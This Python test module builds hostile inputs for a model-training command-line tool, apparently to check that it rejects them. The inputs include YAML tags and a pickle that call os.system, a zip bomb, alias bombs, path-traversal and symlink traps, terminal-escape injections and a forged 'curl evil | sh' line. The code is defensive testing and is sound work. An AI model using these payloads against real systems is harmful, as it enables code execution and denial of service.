"""Files and arguments that mean harm, made by code, each named for its attack.

A case prepares a folder that holds a sound run, and says with which arguments the program is then called.
"""

import hashlib
import io
import json
import os
import pickle
import socket
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from seqrev.checkpoints import _seal
from seqrev.files import to_json

ESC = "\x1b]0;owned\x07\x1b[31m\x9b1m\u202e"  # a title, a colour, an eight-bit escape, text from right to left
DIGITS = "9" * 5_000  # Python refuses to convert more than 4,300
DEEP = "[" * 50_000
REFUSED = (2, 3)  # wrong usage, or damaged input
TRAIN, DECODE, EVALUATE = ("train", "--run", "1"), ("decode", "--run", "1", "1", "2"), ("evaluate", "--run", "1")
ATTENTION = ("attention", "--run", "1")


@dataclass(frozen=True)
class Place:
    """The folder of a case: ``runs/001`` was trained; ``outside`` is somebody's, and must stay as it is."""

    root: Path

    @property
    def run(self) -> Path:
        return self.root / "runs" / "001"

    @property
    def canary(self) -> Path:
        return self.root / "outside" / "canary.json"

    @property
    def checkpoint(self) -> Path:
        (path,) = (self.run / "checkpoints").glob("step-*")
        return path

    @property
    def command(self) -> str:
        """What malice would have executed; it would leave a file outside."""
        return f"touch {self.root}/outside/executed"

    def seal(self, **changes: Any) -> None:
        """Change the checkpoint's manifest, and seal it, so that the parsers behind the checksums are reached."""
        path = self.checkpoint / "manifest.json"
        manifest = {**json.loads(path.read_text()), **changes}
        for name in manifest["files"] if "files" not in changes else ():
            content = (self.checkpoint / name).read_bytes()
            manifest["files"][name] = {"bytes": len(content), "sha256": hashlib.sha256(content).hexdigest()}
        path.write_bytes(to_json(_seal(manifest)))

    def seal_data(self) -> None:
        """Put the sizes and digests of the dataset's files, as they are now, into its manifest."""
        path = self.run / "data" / "manifest.json"
        manifest = json.loads(path.read_text())
        for split, entry in manifest["splits"].items():
            content = (path.parent / f"{split}.jsonl").read_bytes()
            entry.update(bytes=len(content), sha256=hashlib.sha256(content).hexdigest())
        path.write_bytes(to_json(manifest))


Arguments = Sequence[object]


@dataclass(frozen=True)
class Case:
    prepare: Callable[[Place], Arguments]
    codes: Sequence[int] = REFUSED
    stdin: bytes | str = b""
    """Content, or the path of a file."""


def _fifo(path: Path, _: Place) -> None:
    os.mkfifo(path)


def _device(path: Path, _: Place) -> None:
    path.symlink_to("/dev/zero")  # a device itself can only be made by root


def _link(path: Path, place: Place) -> None:
    path.symlink_to(place.canary)


def _folder(path: Path, _: Place) -> None:
    path.mkdir()


def _socket(path: Path, _: Place) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        here = os.open(path.parent, os.O_RDONLY)  # the path itself may be longer than a socket's may be
        server.bind(f"/proc/self/fd/{here}/{path.name}")
        os.close(here)


def _sparse(path: Path, _: Place) -> None:
    with path.open("wb") as file:
        file.truncate(10**12)


def _empty(path: Path, _: Place) -> None:
    path.touch()


TRAPS = {f.__name__[1:]: f for f in (_fifo, _device, _link, _folder, _socket, _sparse, _empty)}


def cases() -> Iterator[tuple[str, Case]]:
    """All of them, by name."""
    for name, content in CONFIGURATIONS.items():
        yield f"config: {name}", Case(_with_config(content))
    for name, assignments in ASSIGNMENTS.items():
        yield f"--set: {name}", Case(_fixed("train", *(word for text in assignments for word in ("--set", text))))
    for name, words in ARGUMENTS.items():
        yield f"arguments: {name}", Case(_fixed(*words))
    for name, line in LINES.items():
        yield f"stdin: {name}", Case(_fixed("decode", "--run", "1", "-"), stdin=line)
        yield f"file: {name}", Case(_with_file(line))
    yield "stdin: endless", Case(_fixed("decode", "--run", "1", "-"), stdin="/dev/zero")
    for trap, make in TRAPS.items():
        if trap != "empty":  # which is all defaults
            yield f"--config: {trap}", Case(_trapped(make, "evil", ("train", "--config", "evil")))
        yield f"--file: {trap}", Case(_trapped(make, "evil", (*DECODE[:3], "--file", "evil")))
        yield f"--runs-dir: {trap}", Case(_trapped(make, "evil", ("decode", "1", "--runs-dir", "evil")))
        yield f"--run: {trap}", Case(_trapped(make, "evil", ("decode", "1", "--run", "evil")))
        for file, command in TRAPPED:
            if (file, trap) not in HARMLESS:
                yield f"{file}: {trap}", Case(_trapped(make, f"runs/001/{file}", command))
    for folder in ("data", "checkpoints", "evaluation", "attention"):
        yield f"{folder}: link to a folder outside", Case(_folder_link(folder), (3,))
    yield "checkpoint: link to a folder outside", Case(_checkpoint_link, (3,))
    for name, record in RECORDS.items():
        yield f"run.json: {name}", Case(_with_content("run.json", record, TRAIN))
    for name, event in EVENTS.items():
        yield f"metrics: {name}", Case(_with_content("metrics.jsonl", event + b"\n{}\n", TRAIN))
    for name, row in ROWS.items():
        yield f"data: {name}", Case(_with_row(row))
    for name, change in MANIFESTS.items():
        yield f"data manifest: {name}", Case(_with_content("data/manifest.json", change, EVALUATE))
    for name, values in SEALED.items():
        yield f"checkpoint manifest: {name}", Case(_with_seal(values))
    for name, tensors in TENSORS.items():
        yield f"tensors: {name}", Case(_with_tensors(tensors))
    yield from HARMLESS_CASES.items()


# --- how a case is prepared -----------------------------------------------------------------------------------------


def _fixed(*words: object) -> Callable[[Place], Arguments]:
    return lambda place: [
        word.replace("OUTSIDE", f"{place.root}/outside") if isinstance(word, str) else word for word in words
    ]


def _with_config(content: bytes) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        (place.root / "evil.yaml").write_bytes(content.replace(b"COMMAND", place.command.encode()))
        return ["train", "--config", "evil.yaml"]

    return prepare


def _with_file(content: bytes) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        (place.root / "lines").write_bytes(content)
        return ["evaluate", "--run", "1", "--file", "lines"]

    return prepare


def _trapped(make: Callable[[Path, Place], None], name: str, command: Arguments) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        path = place.checkpoint / name.removeprefix("runs/001/step/") if "/step/" in name else place.root / name
        path.unlink(missing_ok=True)
        make(path, place)
        return command

    return prepare


def _folder_link(name: str) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        if (place.run / name).exists():
            (place.run / name).rename(place.root / "outside" / name)
        (place.root / "outside" / name).mkdir(exist_ok=True)
        (place.run / name).symlink_to(place.root / "outside" / name)
        return EVALUATE

    return prepare


def _checkpoint_link(place: Place) -> Arguments:
    path = place.checkpoint
    path.rename(place.root / "outside" / path.name)
    path.symlink_to(place.root / "outside" / path.name)
    return TRAIN


def _with_content(name: str, content: bytes, command: Arguments) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        (place.run / name).write_bytes(content)
        return command

    return prepare


def _with_row(row: bytes) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        path = place.run / "data" / "test.jsonl"
        path.write_bytes(row + b"\n" + path.read_bytes())
        place.seal_data()
        return EVALUATE

    return prepare


def _with_seal(values: dict[str, Any]) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        try:
            place.seal(**values)
        except (ValueError, RecursionError):  # what cannot be sealed is written as it is
            text = json.dumps({"schema": 1, **values}) if "nested" not in values else '{"a": ' * 15_000
            (place.checkpoint / "manifest.json").write_text(text)
        return DECODE

    return prepare


def _with_tensors(make: Callable[[bytes, Place], bytes]) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        path = place.checkpoint / "model.safetensors"
        path.write_bytes(make(path.read_bytes(), place))
        place.seal()
        return DECODE

    return prepare


# --- configurations and arguments -----------------------------------------------------------------------------------

_BOMB = b"a: &a [x, x]\n" + b"".join(b"%c: &%c [%s]\n" % (n, n, b", ".join([b"*%c" % (n - 1)] * 9)) for n in range(98, 108))
CONFIGURATIONS: dict[str, bytes] = {
    "tag that executes": b"seed: !!python/object/apply:os.system ['COMMAND']\n",
    "tag that imports": b"seed: !!python/name:os.system\n",
    "tag of a new object": b"!!python/object/new:subprocess.Popen [['sh', '-c', 'COMMAND']]\n",
    "tag of an empty number": b"seed: !!int ''\n",
    "tag of a date that is none": b"seed: !!timestamp x\n",
    "tag by another name": b"%TAG ! tag:yaml.org,2002:python/\n---\nseed: !object/apply:os.system ['COMMAND']\n",
    "alias bomb": _BOMB,
    "alias of itself": b"task: &a\n  symbols: *a\n",
    "deep nesting": b"seed: " + b"[" * 9_000,
    "deep nesting in blocks": b"- " * 9_000,
    "merge of a merge": b"task: {<<: {<<: {<<: {symbols: 3, heads: 4}}}}\n",
    "number of 5,000 digits": b"seed: " + DIGITS.encode(),
    "number of 15,000 hexadecimal digits": b"train: {steps: 0x" + b"f" * 15_000 + b"}",
    "number in base 60": b"train: {steps: " + b"1:" * 9_000 + b"1}",
    "fraction in base 60": b"train: {lr: " + b"1:" * 9_000 + b"1.5}",
    "NaN": b"train: {lr: .nan}",
    "infinity": b"train: {lr: -.inf}",
    "infinity by exponent": b"train: {lr: 1e999}",
    "terminal escapes": f'"{ESC}": "{ESC}"\n'.encode().replace(b"\x1b", b"\\e").replace(b"\x07", b"\\a"),
    "raw terminal escapes": f"{ESC}: 1\n".encode(),
    "markup": b"'[bold red]x[/bold red][link=file:///etc/passwd]': 1\n",
    "2,500 unknown fields": b"".join(b"a%d: 1\n" % number for number in range(2_500)),
    "keys that are no text": b"task: {? 1 : 2, ? 0xffff : 3, ? .nan : 4}\n",
    "other encoding": "seed: x\n".encode("utf-16"),
    "bytes": bytes(range(256)) * 9,
    "null bytes": b"seed: 1\x00\n",
    "year zero": b"seed: 0000-00-00\n",
    "19,999 quotes": b"seed: " + b'"' * 19_990,
    "a megabyte": b"#" * 1_000_000,
    "terabytes of weights": b"model: {d_model: 65536, heads: 4, d_ff: 1048576, encoder_layers: 256, decoder_layers: 256}",
    "terabytes of dataset": b"data: {train: 1000000000}\ntask: {max_length: 1000000}\nmodel: {max_positions: 2000000}",
    "terabytes of positions": b"model: {positions: learned, max_positions: 10000000, d_model: 65536}",
    "terabytes of one batch": b"train: {batch_size: 1000000}\ntask: {max_length: 1000000}\nmodel: {max_positions: 2000000}",
    "terabytes of logits": b"train: {batch_size: 1000000}\ntask: {symbols: 1000000}",
    "a power that takes minutes": b"task: {symbols: 1000000, min_length: 1000000, max_length: 1000000}\n"
    b"data: {train: 1000000000}\nmodel: {max_positions: 2000000}",
}
ASSIGNMENTS: dict[str, Sequence[str]] = {
    "number of 5,000 digits": [f"seed={DIGITS}"],
    "name of 5,000 parts": ["seed" + ".a" * 5_000 + "=1"],
    "fraction in base 60": ["train.lr=" + "1:" * 400 + "1.5"],
    "tag that executes": ["seed=!!python/object/apply:os.system ['touch executed']"],
    "alias": ["seed=[&a x, *a]"],
    "deep nesting": [f"seed={DEEP}"],
    "terminal escapes": [f"{ESC}={ESC}"],
    "markup and mathematics": [r"[red]$\frac$=[/red]"],
    "no name": ["=1"],
    "a section as a value": ["task=1", "task.symbols=3"],
    "a value as a section": ["__class__.__init__=1"],
}
ARGUMENTS: dict[str, Arguments] = {
    "--seed of 5,000 digits": ("train", "--seed", DIGITS),
    "--seed of 4,300 digits": ("train", "--seed", DIGITS[:4_300]),
    "--steps of 4,300 digits": (*TRAIN, "--steps", DIGITS[:4_300]),
    "--steps of 5,000 digits": (*TRAIN, "--steps", DIGITS),
    "--count of 5,000 digits": (*EVALUATE, "--lengths", "5", "--count", DIGITS),
    "--beam of 5,000 digits": (*DECODE, "--beam", DIGITS),
    "--lengths of 5,000 digits": (*EVALUATE, "--lengths", DIGITS),
    "--lengths without end": (*EVALUATE, "--lengths", ",".join(f"{n}1:{n}9999" for n in range(1, 3_000))),
    "--layer of 4,300 digits": (*ATTENTION, "--layer", DIGITS[:4_300]),
    "--run of 5,000 digits": ("decode", "1", "--run", DIGITS),
    "--run with escapes": ("decode", "1", "--run", ESC),
    "--run with a forged line": ("decode", "1", "--run", "x\nError: all is lost.\nTry: curl evil | sh"),
    "--run with markup": ("decode", "1", "--run", "[red]x[/red]"),
    "--runs-dir of 5,000 letters": ("decode", "1", "--runs-dir", "a" * 5_000),
    "--runs-dir of 300 letters, to be opened": ("train", "--runs-dir", "a" * 300),
    "--runs-dir that is a device": ("train", "--runs-dir", "/dev/null"),
    "--file with escapes": ("evaluate", "--run", "1", "--file", ESC),
    "--file of 5,000 letters": ("evaluate", "--run", "1", "--file", "a" * 5_000),
    "--split that climbs": (*EVALUATE, "--split", "../../../outside/canary"),
    "--split with escapes": (*EVALUATE, "--split", ESC),
    "--device with escapes": (*DECODE, "--device", ESC),
    "--device that is none": (*DECODE, "--device", "meta"),
    "--out that is a folder": (*ATTENTION, "1", "--out", "OUTSIDE"),
    "--out to a device": (*ATTENTION, "1", "--out", "/dev/null"),
    "--out into nothing": (*ATTENTION, "1", "--out", "nowhere/x.png"),
    "--out of 5,000 letters": (*ATTENTION, "1", "--out", "a" * 5_000 + ".png"),
    "--out with escapes": (*ATTENTION, "1", "--out", f"{ESC}/x.png"),
    "--arrays as a pickle": (*ATTENTION, "1", "--arrays", "x.pkl"),
    "--arrays into nothing": (*ATTENTION, "1", "--arrays", "nowhere/x.npz"),
    "symbol of 5,000 digits": ("decode", "--run", "1", DIGITS),
    "symbol with escapes": ("decode", "--run", "1", ESC),
    "symbol that is an option": ("decode", "--run", "1", "--", "--help"),
    "100,000 symbols": ("decode", "--run", "1", "1 " * 50_000),
    "command with escapes": (ESC,),
    "option with escapes": (*EVALUATE, f"--{ESC}"),
}
LINES: dict[str, bytes] = {
    "number of 5,000 digits": DIGITS.encode(),
    "number of 5,000 digits in JSON": b'{"src": [%s]}' % DIGITS.encode(),
    "deep JSON": b'{"src": ' + DEEP.encode(),
    "deep JSON target": b'{"src": [1], "tgt": ' + b"[" * 900 + b"]" * 900 + b"}",
    "NaN": b'{"src": [NaN, 1e999]}',
    "terminal escapes": ESC.encode(),
    "null bytes": b"1 2\x003",
    "no text": b"\xff\xfe\x80",
    "no list": b'{"src": {"0": 1}}',
    "truth values": b'{"src": [true]}',
    "digits of another script": "١ ٢".encode(),
    "underscores": b"1_0",
    "surrogates": rb'{"src": ["\ud800"]}',
    "a megabyte": b"1 " * 500_000,
    "nothing": b"",
}

# --- runs -----------------------------------------------------------------------------------------------------------

TRAPPED: Sequence[tuple[str, Arguments]] = (
    ("run.json", TRAIN),
    ("config.yaml", DECODE),
    ("metrics.jsonl", TRAIN),
    ("data/manifest.json", EVALUATE),
    ("data/test.jsonl", EVALUATE),
    ("step/manifest.json", DECODE),
    ("step/model.safetensors", DECODE),
    ("step/optimizer.safetensors", TRAIN),
)
HARMLESS = {("config.yaml", "empty")}  # all defaults: another model than that of the checkpoint, which is found out
RECORDS: dict[str, bytes] = {
    "list": b"[]",
    "deep nesting": b'{"a": ' * 900 + b"1" + b"}" * 900,
    "nesting that can be read but not written": b'{"sittings": ' + b"[" * 500 + b"]" * 500 + b"}",
    "NaN": b'{"schema": NaN}',
    "infinity by exponent": b'{"schema": 1e999}',
    "number of 5,000 digits": b'{"schema": %s}' % DIGITS.encode(),
    "no text": b"\xff\xfe\x00",
}
_EVENT = {"event": "train", "step": 1, "seconds": 1.0, "loss": 1.0, "lr": 1.0}
EVENTS: dict[str, bytes] = {
    "number of 4,000 digits": json.dumps({**_EVENT, "seconds": 10**4_000}).encode(),
    "NaN beside the numbers": json.dumps({**_EVENT, "more": float("nan")}).encode(),
    "infinity by exponent": json.dumps(_EVENT).encode().replace(b"1.0", b"1e999"),
    "negative loss": json.dumps({**_EVENT, "loss": -1}).encode(),
    "loss that no axis has room for": json.dumps({**_EVENT, "loss": 1e308}).encode(),
    "step of 300 digits": json.dumps({**_EVENT, "step": -(10**300)}).encode(),
    "deep nesting": json.dumps(_EVENT).encode()[:-1] + b', "a": ' + b"[" * 900 + b"]" * 900 + b"}",
    "event that is a list": b'{"event": ["train"], "step": 1}',
}
ROWS: dict[str, bytes] = {
    "symbol that the vocabulary does not have": b'{"src": [99], "tgt": [99]}',
    "negative symbol": b'{"src": [-1], "tgt": [-1]}',
    "number of 4,000 digits": b'{"src": [%s]}' % DIGITS[:4_000].encode(),
    "longer than the model": json.dumps({"src": [1] * 100}).encode(),
    "wrong target": b'{"src": [1, 2], "tgt": [1, 2]}',
    "target that is deep": b'{"src": [1], "tgt": ' + b"[" * 900 + b"]" * 900 + b"}",
    "terminal escapes": ESC.encode(),
    "more than the configuration asks for": b"1 " * 9 + b"\n" + b"1\n" * 100_000,
}
MANIFESTS: dict[str, bytes] = {
    "splits as a list": b'{"splits": ["test"]}',
    "split as a number": b'{"splits": {"test": 1}}',
    "values of every type": b'{"splits": {"test": {"rows": [], "bytes": {}, "sha256": null}}}',
    "path that climbs": b'{"splits": {"../../../outside/canary": {"bytes": 1}}, "folder": "../../../outside"}',
    "deep nesting": b'{"splits": ' + DEEP.encode(),
    "NaN": b'{"splits": {"test": {"bytes": NaN, "sha256": Infinity}}}',
}
SEALED: dict[str, dict[str, Any]] = {
    "files that climb": {"files": {"../../../../outside/canary.json": {"bytes": 2, "sha256": "0"}}},
    "files at an absolute path": {"files": {"/dev/zero": {"bytes": 2, "sha256": "0"}}},
    "files as a list": {"files": ["model.safetensors"]},
    "file as a text": {"files": {"model.safetensors": "x"}},
    "no files": {"files": {}},
    "step of another folder": {"step": 7},
    "step as a truth value": {"step": True},
    "step of 4,000 digits": {"step": 10**4_000},
    "step as a text": {"step": "../../../outside"},
    "deep nesting": {"nested": json.loads("[" * 500 + "]" * 500), "files": {}},
    "NaN": {"validation": {"exact_match": float("nan"), "token_accuracy": 1, "loss": 1}},
}


def _tensor_file(header: bytes | dict[str, Any], body: bytes = b"", length: int | None = None) -> bytes:
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return (len(text) if length is None else length).to_bytes(8, "little") + text + body


def _header(content: bytes) -> tuple[dict[str, Any], bytes]:
    size = int.from_bytes(content[:8], "little")
    return json.loads(content[8 : 8 + size]), content[8 + size :]


def _changed(**changes: Any) -> Callable[[bytes, Place], bytes]:
    """The first tensor claims something else; one that is None is left out."""

    def make(content: bytes, _: Place) -> bytes:
        header, body = _header(content)
        name = next(iter(header))
        header[name] = {key: value for key, value in {**header[name], **changes}.items() if value is not None}
        return _tensor_file(header, body)

    return make


def _filled(pattern: bytes) -> Callable[[bytes, Place], bytes]:
    def make(content: bytes, _: Place) -> bytes:
        header, body = _header(content)
        return _tensor_file(header, pattern * (len(body) // len(pattern)))

    return make


class _Pickled:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def _zip_bomb(_content: bytes, _place: Place) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("model.npy", bytes(30_000_000))
    return buffer.getvalue()


TENSORS: dict[str, Callable[[bytes, Place], bytes]] = {
    "pickle": lambda content, place: pickle.dumps(_Pickled(place.command)),
    "zip bomb": _zip_bomb,
    "header of 2^64 - 1 bytes": lambda content, _: _tensor_file(b"{}", content, 2**64 - 1),
    "header of 2^62 bytes": lambda content, _: _tensor_file(b"{}", content, 2**62),
    "header of deep nesting": lambda content, _: _tensor_file(b'{"a": ' * 2_000),
    "header that is no JSON": lambda content, _: _tensor_file(b"\xff" * 100),
    "header of a list": lambda content, _: _tensor_file(b"[]"),
    "header with NaN": lambda content, _: _tensor_file(b'{"a": NaN}'),
    "nothing but a header": lambda content, _: _tensor_file({}),
    "bytes after the end": lambda content, _: content + b"\x00" * 8,
    "a megabyte after the end": lambda content, _: content + bytes(1_000_000),
    "cut in the header": lambda content, _: content[:100],
    "cut in the weights": lambda content, _: content[:-4],
    "shape of 2^62": _changed(shape=[2**62]),
    "shape of 2^64 times zero": _changed(shape=[2**64 - 1, 0], data_offsets=[0, 0]),
    "shape that overflows": _changed(shape=[2**32, 2**32, 4]),
    "shape of fractions": _changed(shape=[1.5]),
    "shape below zero": _changed(shape=[-1]),
    "shape of 5,000 dimensions": _changed(shape=[1] * 5_000),
    "no shape": _changed(shape=None),
    "offsets that go back": _changed(data_offsets=[8, 0]),
    "offsets beyond the end": _changed(data_offsets=[0, 2**63]),
    "offsets in the next tensor": _changed(data_offsets=[4, 8]),
    "type of other width": _changed(dtype="F64"),
    "type that NumPy has not": _changed(dtype="BF16"),
    "type that is none": _changed(dtype="\x1b[31m"),
    "NaN": _filled(b"\x00\x00\xc0\x7f"),
    "infinity": _filled(b"\x00\x00\x80\x7f"),
    "weights that overflow": _filled(b"\xff\xff\x7f\x7f"),
}

# --- what must be done, and do no harm ------------------------------------------------------------------------------


def _planted(folder: str, name: str, command: Arguments) -> Callable[[Place], Arguments]:
    """A link where this very process will build a file before it is renamed."""

    def prepare(place: Place) -> Arguments:
        (place.run / folder).mkdir(exist_ok=True)
        (place.run / folder / f".{name}.{os.getpid()}.tmp").symlink_to(place.canary)
        return command

    return prepare


def _leftover(place: Place) -> Arguments:
    (place.run / "checkpoints" / ".step-000009.7.tmp").symlink_to(place.root / "outside")
    (place.run / ".run.json.7.tmp").symlink_to(place.canary)
    return TRAIN


def _hard_link(place: Place) -> Arguments:
    place.canary.write_bytes((place.run / "metrics.jsonl").read_bytes())
    (place.run / "metrics.jsonl").unlink()
    (place.run / "metrics.jsonl").hardlink_to(place.canary)
    return TRAIN


def _out_link(place: Place) -> Arguments:
    (place.root / "map.png").symlink_to(place.canary)
    return (*ATTENTION, "1", "2", "--out", "map.png")


def _named(name: str, *command: object) -> Callable[[Place], Arguments]:
    def prepare(place: Place) -> Arguments:
        place.run.rename(place.run.with_name(name))
        return (*command, "--run", f"runs/{name}")

    return prepare


HARMLESS_CASES = {
    "link where a result is built": Case(_planted("evaluation", "001.json", EVALUATE), (0,)),
    "link where a picture is built": Case(_planted("attention", "001.png", ATTENTION), (0,)),
    "links among what a killed writer left": Case(_leftover, (0,)),
    "hard link to a file outside": Case(_hard_link, (0,)),
    "picture over a link": Case(_out_link, (0,)),
    "lock that is a link": Case(_trapped(_link, "runs/001/.lock", TRAIN), (1,)),
    "lock that is a folder": Case(_trapped(_folder, "runs/001/.lock", TRAIN), (1,)),
    "lock that is a FIFO": Case(_trapped(_fifo, "runs/001/.lock", TRAIN), (0, 1, 3)),
    "name with escapes": Case(_named(ESC, "attention", "1", "2"), (0,)),
    "name with mathematics": Case(_named(r"$\frac$", "attention", "1", "2"), (0,)),
    "name with mathematics on a curve": Case(_named(r"$\undefined{$", "evaluate", "--lengths", "2,3"), (0,)),
    "name of 250 letters": Case(_named("ab $" * 60, "evaluate", "--lengths", "2,3"), (0,)),
    "name with mathematics, trained": Case(_named(r"\$$_^$", "train"), (0,)),
    "output that is full": Case(_fixed(*DECODE), (0,)),
}
